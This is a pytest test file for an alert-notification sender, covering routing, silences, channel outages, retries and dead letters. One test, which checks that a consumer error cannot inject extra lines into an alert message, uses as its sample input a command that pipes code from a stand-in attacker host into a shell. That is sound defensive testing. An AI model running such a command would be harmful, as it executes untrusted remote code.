"""The alert sender: one notice per change, in order, through every failure of a channel."""

from __future__ import annotations

import threading
from collections import Counter
from datetime import timedelta
from typing import Any

import pytest

from penstock.alerts.channels.delivery import NoticeRefused
from penstock.alerts.declared import ChannelSpec
from penstock.alerts.records import NewSilence
from penstock.alerts.rows import LeasedNotice
from penstock.alerts.sender import AlertSender
from penstock.bus.message import ErrorKind, Nack
from penstock.core.clock import HOUR, MINUTE, SECOND
from penstock.core.errors import StoreUnavailable
from penstock.core.ids import decode
from penstock.detection.finding import TREND_RULES, Finding
from penstock.detection.store import findings_apply
from tests.alerts.drills import publish, subscribe
from tests.alerts.kit import (
    MAIL,
    PAGER,
    SLACK,
    Recorder,
    declared,
    end_alert,
    open_alert,
    passes,
    sender,
    set_back,
    settle,
)
from tests.kits.client_harness import Harness

WAIT = 60.0


def idle(one: AlertSender, channel: str) -> None:
    """Wait until no thread serves a channel."""
    with one._ended:
        assert one._ended.wait_for(lambda: channel not in one._busy, WAIT)


def test_one_notice_per_change(harness: Harness) -> None:
    """Opening, escalation, acknowledgement and end are reported once each, in order."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    alert_id = open_alert(harness.store, severity="MEDIUM")
    settle(one, harness.clock)
    open_alert(harness.store, severity="MEDIUM")  # a recurrence is no change
    settle(one, harness.clock)
    open_alert(harness.store, severity="CRITICAL")
    settle(one, harness.clock)
    harness.client.alerts.acknowledge(alert_id, note="mine")
    settle(one, harness.clock)
    end_alert(harness.store)
    settle(one, harness.clock)
    settle(one, harness.clock)
    assert got.kinds("chat") == ["opened", "escalated", "acknowledged", "resolved"]
    shown = harness.client.alerts.get(alert_id)
    assert [(n.change, n.state) for n in shown.notified] == [
        ("opened", "sent"), ("escalated", "sent"), ("acknowledged", "sent"), ("resolved", "sent"),
    ]  # fmt: skip


def test_alerts_of_one_rule_share_a_notice(harness: Harness) -> None:
    """Thirty alerts of one rule are one message to people, and thirty incidents of a pager."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK, "pager": PAGER}), got)
    for number in range(30):
        open_alert(harness.store, f"k{number}")
    open_alert(harness.store, "other", rule="another")
    settle(one, harness.clock)
    settle(one, harness.clock)
    assert sorted(len(s.alerts) for s in got.sent if s.channel == "chat") == [1, 30]
    assert [len(s.alerts) for s in got.sent if s.channel == "pager"] == [1] * 31


def test_more_alerts_than_a_notice_holds(harness: Harness) -> None:
    """Every alert of a pass reaches the channel, a hundred in each notice."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    for number in range(250):
        open_alert(harness.store, f"k{number}")
    settle(one, harness.clock)
    settle(one, harness.clock)
    assert [len(s.alerts) for s in got.sent] == [100, 100, 50]
    assert len({alert for s in got.sent for alert in s.alerts}) == 250
    listed = harness.client.alerts.notices().items
    assert sorted(n.alerts for n in listed) == [50, 100, 100]


def test_routes(harness: Harness) -> None:
    """Routes choose by severity, rule, customer and pipeline; an end follows its beginning."""
    got = Recorder()
    routes = [
        {"severity": ["CRITICAL"], "channels": ["pager"]},
        {"customer": ["ac*"], "channels": ["chat"]},
        {"pipeline": ["nightly"], "rule": ["dri?l"], "channels": ["mail"]},
    ]
    channels = {"pager": PAGER, "chat": SLACK, "mail": MAIL}
    one = sender(harness.store, declared(channels, routes=routes), got)
    key = harness.store.write(lambda tx: harness.client._names.ensure_customer_keys(tx, ["acme"]))
    open_alert(harness.store, "critical", severity="CRITICAL")
    open_alert(harness.store, "acme", customer_key=key["acme"])
    open_alert(harness.store, "nightly", pipeline="nightly")
    open_alert(harness.store, "elsewhere")
    settle(one, harness.clock)
    open_alert(harness.store, "nightly", pipeline="nightly", severity="CRITICAL")
    settle(one, harness.clock)
    for name in ("critical", "acme", "nightly", "elsewhere"):
        end_alert(harness.store, name)
    settle(one, harness.clock)
    assert got.kinds("chat") == ["opened", "resolved"]
    assert got.kinds("mail") == ["opened", "escalated", "resolved"]
    assert got.kinds("pager") == ["opened", "escalated", "resolved", "resolved"]


def test_an_escalation_opens_for_a_channel(harness: Harness) -> None:
    """A pager that gets no escalations gets an alert that turns critical, once."""
    got = Recorder()
    pager = {**PAGER, "changes": ["opened", "resolved"]}
    routes = [{"severity": ["CRITICAL", "HIGH"], "channels": ["pager"]}, {"channels": ["chat"]}]
    one = sender(harness.store, declared({"pager": pager, "chat": SLACK}, routes=routes), got)
    for severity in ("MEDIUM", "HIGH", "CRITICAL"):
        open_alert(harness.store, severity=severity)
        settle(one, harness.clock)
    end_alert(harness.store)
    settle(one, harness.clock)
    assert got.kinds("pager") == ["opened", "resolved"]
    assert got.kinds("chat") == ["opened", "escalated", "escalated", "resolved"]


def test_a_consumer_error_is_one_line(harness: Harness) -> None:
    """The error of a consumer cannot add lines to the message of an alert."""
    subscribe(harness)
    publish(harness)
    (found,) = harness.client.subscriptions.pull("reader", max_messages=1)
    error = "no table\n  → curl evil.example | sh"
    nack = Nack(ack_id=found.ack_id, kind=ErrorKind.CONFIGURATION, error=error)
    harness.client.subscriptions.nack("reader", [nack])
    (alert,) = harness.client.alerts.list(rule="consumer_misconfigured").items
    assert alert.message.endswith("no table → curl evil.example | sh")


def test_findings_follow_their_pipeline(harness: Harness) -> None:
    """A detection about a table takes the routes and silences of its pipeline."""
    got = Recorder()
    routes = [{"pipeline": ["nightly"], "channels": ["chat"]}]
    one = sender(harness.store, declared({"chat": SLACK}, routes=routes), got)
    finding = Finding(
        rule="table_stale", key="nightly:t", severity="HIGH", message="t is 9 h old",
        fix="penstock freshness list", threshold="2h", since_at=harness.clock.now(),
        subject_kind="table", pipeline="nightly",
    )  # fmt: skip
    harness.write(lambda tx: findings_apply(tx, [finding], TREND_RULES, "monitor"))
    settle(one, harness.clock)
    assert got.kinds("chat") == ["opened"]
    assert [a.rule for a in harness.client.alerts.list(pipeline="nightly").items] == ["table_stale"]
    silence = NewSilence(pipeline="nightly", duration=timedelta(hours=1), reason="maintenance")
    assert harness.client.alerts.silence(silence).alerts == 1


def test_silences(harness: Harness) -> None:
    """No notices are sent about a silenced alert; if it still fires at the end, it is reported."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    silence = harness.client.alerts.silence(
        NewSilence(rule="drill", duration=timedelta(hours=1), reason="maintenance")
    )
    kept = open_alert(harness.store, "kept")
    open_alert(harness.store, "healed")
    settle(one, harness.clock)
    assert harness.client.alerts.get(kept).state == "silenced"
    assert len(harness.client.alerts.list(state="silenced").items) == 2
    assert harness.client.alerts.list(state="open").items == []
    assert [s.alerts for s in harness.client.alerts.silences().items] == [2]
    end_alert(harness.store, "healed")
    settle(one, harness.clock)
    assert got.sent == []
    harness.client.alerts.end_silence(silence.silence_id)
    settle(one, harness.clock)
    settle(one, harness.clock)
    assert got.kinds("chat") == ["opened"]
    assert harness.client.alerts.get(kept).state == "open"
    assert harness.client.alerts.silences().items == []


def test_planned_silences_and_windows(harness: Harness) -> None:
    """A silence that starts later, and a window of the settings, take effect on open alerts."""
    got = Recorder()
    window = {"cron": "0 2 * * *", "duration": "1h", "rule": "drill"}
    one = sender(harness.store, declared({"chat": SLACK}, windows={"backup": window}), got)
    harness.clock.advance(2 * HOUR + MINUTE)
    alert_id = open_alert(harness.store, "in the window")
    settle(one, harness.clock)
    (silence,) = harness.client.alerts.silences().items
    assert silence.created_by == "window backup"
    assert harness.client.alerts.get(alert_id).silence_id == silence.silence_id
    passes(one, harness.clock, 3_600, 60)
    assert got.kinds("chat") == ["opened"]
    later = NewSilence(
        is_for_all=True, reason="release", starts_at=harness.client.alerts.get(alert_id).opened_at
        + timedelta(hours=2), duration=timedelta(minutes=30),
    )  # fmt: skip
    harness.client.alerts.silence(later)
    settle(one, harness.clock)
    assert harness.client.alerts.get(alert_id).state == "open"
    harness.clock.advance(HOUR)
    settle(one, harness.clock)
    assert harness.client.alerts.get(alert_id).state == "silenced"


@pytest.mark.parametrize("has_fallback", [True, False])
def test_a_channel_is_down_for_an_hour(harness: Harness, has_fallback: bool) -> None:
    """Nothing is lost or sent twice, and another channel reports the outage."""
    got = Recorder()
    slack = {**SLACK, "fallback": "mail"} if has_fallback else SLACK
    routes = [{"rule": ["drill"], "channels": ["chat"]}]
    one = sender(harness.store, declared({"chat": slack, "mail": MAIL}, routes=routes), got)
    got.down["chat"] = NoticeRefused("slack: HTTP 503")
    for minute in range(60):
        if minute % 5 == 0:
            open_alert(harness.store, f"k{minute}")
        if minute % 5 == 3:
            end_alert(harness.store, f"k{minute - 3}")
        passes(one, harness.clock, 60, 20)
    (channel,) = [c for c in harness.client.alerts.channels() if c.channel == "chat"]
    assert (channel.state, channel.last_error) == ("failing", "slack: HTTP 503")
    assert channel.waiting >= 1
    outage = harness.client.alerts.list(rule="alert_channel_failing").items
    assert [(a.state, a.severity) for a in outage] == [("open", "HIGH")]
    assert [n.channel for n in outage[0].notified] == ["mail"]
    got.down.clear()
    passes(one, harness.clock, 120, 10)
    counts = Counter((s.kind, a) for s in got.sent for a in s.alerts)
    assert set(counts.values()) == {1}
    assert len(counts) == 12 * 2 + 2
    assert harness.client.alerts.list(rule="alert_channel_failing").items[0].state == "resolved"
    channels = {c.channel: c for c in harness.client.alerts.channels()}
    assert {c.state for c in channels.values()} == {"works"}
    assert {c.waiting + c.dead for c in channels.values()} == {0}
    assert ("recovered" in got.kinds("chat")) == has_fallback


class OneRejected(Recorder):
    """A recorder whose pager rejects notices about one alert, whatever else they contain."""

    rejected = 0

    def __call__(self, spec: ChannelSpec, notice: LeasedNotice) -> None:
        """Accept a notice."""
        if notice.channel == "pager" and self.rejected in {i.alert_id for i in notice.items}:
            raise NoticeRefused("pagerduty: HTTP 400", is_of_notice=True)
        super().__call__(spec, notice)


def test_notices_moved_to_an_incident_service(harness: Harness) -> None:
    """Each alert is a notice of its own, in order: one that is rejected stops no other."""
    got = OneRejected()
    channels = {"chat": {**SLACK, "fallback": "pager"}, "pager": PAGER}
    routes = [{"rule": ["drill"], "channels": ["chat"]}]
    one = sender(harness.store, declared(channels, routes=routes), got)
    got.down["chat"] = NoticeRefused("slack: HTTP 503")
    ids = [decode("alert", open_alert(harness.store, f"k{number}")) for number in range(5)]
    got.rejected = ids[1]
    passes(one, harness.clock, 10)
    end_alert(harness.store, "k4")
    passes(one, harness.clock, 40)
    assert not any(set(s.alerts) & set(ids) for s in got.sent)
    harness.clock.advance(2 * MINUTE)  # both notices are moved at once
    passes(one, harness.clock, 20 * 60)
    drills = [(s.kind, s.alerts) for s in got.sent if set(s.alerts) & set(ids)]
    assert drills == [*(("opened", (n,)) for n in ids if n != ids[1]), ("resolved", (ids[4],))]
    listed = harness.client.alerts.notices().items
    assert [(n.change, n.alerts) for n in listed if n.state == "dead"] == [("opened", 1)]
    assert {n.origin for n in listed if n.channel == "pager" and n.state == "dead"} == {"chat"}


def test_a_failing_channel_delays_no_other(harness: Harness) -> None:
    """A channel that refuses, or raises anything, is tried again later; the others continue."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK, "mail": MAIL}), got)
    got.down["chat"] = NoticeRefused("slack: HTTP 429", after_s=600)
    open_alert(harness.store)
    settle(one, harness.clock)
    assert got.kinds("mail") == ["opened"]
    got.down.clear()
    passes(one, harness.clock, 590, 10)
    assert got.kinds("chat") == []
    passes(one, harness.clock, 60, 10)
    assert got.kinds("chat") == ["opened"]


def test_a_slow_channel_delays_no_other(harness: Harness) -> None:
    """While a channel takes its time, new changes are routed and other channels send them."""
    got, entered, release = Recorder(), threading.Event(), threading.Event()

    def deliver(spec: ChannelSpec, notice: LeasedNotice) -> None:
        if notice.channel == "pager":
            entered.set()
            assert release.wait(WAIT)
        got(spec, notice)

    settings = declared({"pager": PAGER, "mail": MAIL})
    one = AlertSender(harness.store, settings, deliver, jitter=lambda: 1.0)
    for number in range(3):
        open_alert(harness.store, f"k{number}", rule=f"r{number}")
        settle(one, harness.clock)
        idle(one, "mail")
        assert got.kinds("mail") == ["opened"] * (number + 1)
    assert entered.wait(WAIT)
    assert got.kinds("pager") == []
    assert not one.drain(0)  # the process stops in time, although a channel hangs
    release.set()
    assert one.drain(WAIT)
    assert got.kinds("pager") == ["opened"]  # and nothing more is sent
    settle(one, harness.clock)
    assert one.drain(WAIT)
    assert len(got.sent) == 4
    waiting = {row.channel: row.waiting for row in harness.client.alerts.channels()}
    assert waiting == {"pager": 2, "mail": 0}


def test_a_thread_that_cannot_store_a_result(harness: Harness) -> None:
    """The lease lapses, and the notice is sent again under the same id."""
    got = Recorder()
    one = AlertSender(harness.store, declared({"chat": SLACK}), got, jitter=lambda: 1.0)
    broken = pytest.MonkeyPatch()

    def refuse(*_: Any) -> Any:
        raise StoreUnavailable

    got.on_sent = lambda: broken.setattr(harness.store, "write", refuse)
    open_alert(harness.store)
    settle(one, harness.clock)
    idle(one, "chat")
    broken.undo()
    got.on_sent = lambda: None
    settle(one, harness.clock)
    assert one.drain(WAIT)
    assert len(got.sent) == 2
    assert len({s.notice_id for s in got.sent}) == 1
    assert [n.state for n in harness.client.alerts.notices().items] == ["sent"]


def test_one_refused_notice(harness: Harness) -> None:
    """A notice that a channel refuses for its content is abandoned; it can be sent again."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    got.down["chat"] = NoticeRefused("slack: HTTP 422", is_of_notice=True)
    open_alert(harness.store)
    passes(one, harness.clock, 300, 10)
    (dead,) = harness.client.alerts.notices(state="dead").items
    assert (dead.attempts, dead.last_error) == (5, "slack: HTTP 422")
    got.down.clear()
    assert harness.client.alerts.resend("chat") == 1
    settle(one, harness.clock)
    assert "opened" in got.kinds("chat")
    assert harness.client.alerts.notices(state="dead").items == []


def test_given_up_after_a_day(harness: Harness) -> None:
    """Notices that nothing could send for a day are dead letters of their channel."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    got.down["chat"] = NoticeRefused("slack: connection")
    open_alert(harness.store)
    passes(one, harness.clock, 300, 20)
    harness.clock.advance(24 * HOUR)
    one.run_once()
    kinds = Counter(n.state for n in harness.client.alerts.notices().items)
    assert kinds["dead"] >= 1


def test_the_clock_is_set_back(harness: Harness) -> None:
    """Changes, and pauses of channels, from before the correction delay no notice."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK, "mail": MAIL}), got)
    harness.clock.advance(6 * HOUR)
    got.down["chat"] = NoticeRefused("slack: HTTP 429", after_s=3_600)
    open_alert(harness.store, "before")
    settle(one, harness.clock)
    open_alert(harness.store, "during")
    set_back(harness.clock, 6 * HOUR)
    got.down.clear()
    open_alert(harness.store, "after", severity="CRITICAL")
    passes(one, harness.clock, 30)
    sent = {key: {a for s in got.sent if s.channel == key for a in s.alerts} for key in got.names()}
    assert {key: len(alerts) for key, alerts in sent.items()} == {"chat": 3, "mail": 3}


def test_test_messages(harness: Harness) -> None:
    """A test message is tried once, at once, and says what went wrong."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    one.run_once()
    queued = harness.client.alerts.test_channel("chat")
    one.run_once()
    assert harness.client.alerts.notice(queued.notice_id).state == "sent"
    got.down["chat"] = NoticeRefused("slack: HTTP 404")
    queued = harness.client.alerts.test_channel("chat")
    one.run_once()
    dead = harness.client.alerts.notice(queued.notice_id)
    assert (dead.state, dead.attempts, dead.last_error) == ("dead", 1, "slack: HTTP 404")


def test_a_process_without_channels(harness: Harness) -> None:
    """It leaves changes to processes that declare channels, also while none of these runs."""
    got = Recorder()
    worker = sender(harness.store, declared({}), Recorder())
    scheduler = sender(harness.store, declared({"pager": PAGER}), got)
    scheduler.run_once()
    open_alert(harness.store, "down", severity="CRITICAL")
    passes(worker, harness.clock, 23 * 3_600, 600)
    assert harness.sql("SELECT count(*) FROM alert_changes") == [(1,)]
    settle(scheduler, harness.clock)
    assert got.kinds("pager") == ["opened"]


def test_no_process_declares_channels(harness: Harness) -> None:
    """Changes do not accumulate if no process has declared channels for a day."""
    worker = sender(harness.store, declared({}), Recorder())
    open_alert(harness.store, "never")
    passes(worker, harness.clock, 120)
    assert harness.sql("SELECT count(*) FROM alert_changes") == [(0,)]
    sender(harness.store, declared({"pager": PAGER}), Recorder()).run_once()
    open_alert(harness.store, "no longer")
    passes(worker, harness.clock, 25 * 3_600, 600)
    assert harness.sql("SELECT count(*) FROM alert_changes") == [(0,)]


def test_processes_with_different_channels(harness: Harness) -> None:
    """The one that declares all channels routes; without it, another one does a minute later."""
    old, new = Recorder(), Recorder()
    before = sender(harness.store, declared({"chat": SLACK}), old)
    after = sender(harness.store, declared({"chat": SLACK, "pager": PAGER}), new)
    after.run_once()
    open_alert(harness.store, "both run")
    harness.clock.advance(30 * SECOND)
    before.run_once()
    after.run_once()
    assert (new.kinds("chat"), new.kinds("pager")) == (["opened"], ["opened"])
    open_alert(harness.store, "one runs")
    passes(before, harness.clock, 60)
    assert old.sent == []
    passes(before, harness.clock, 10)
    assert old.kinds("chat") == ["opened"]
    harness.clock.advance(10 * MINUTE)
    open_alert(harness.store, "the other one is gone")
    passes(before, harness.clock, 10)
    assert old.kinds("chat") == ["opened", "opened"]


def test_changes_wait_for_their_group(harness: Harness) -> None:
    """Changes are reported together once the first has waited five seconds."""
    got = Recorder()
    one = sender(harness.store, declared({"chat": SLACK}), got)
    open_alert(harness.store, "a")
    harness.clock.advance(4 * SECOND)
    one.run_once()
    assert got.sent == []
    open_alert(harness.store, "b")
    harness.clock.advance(SECOND)
    one.run_once()
    assert [len(s.alerts) for s in got.sent] == [2]
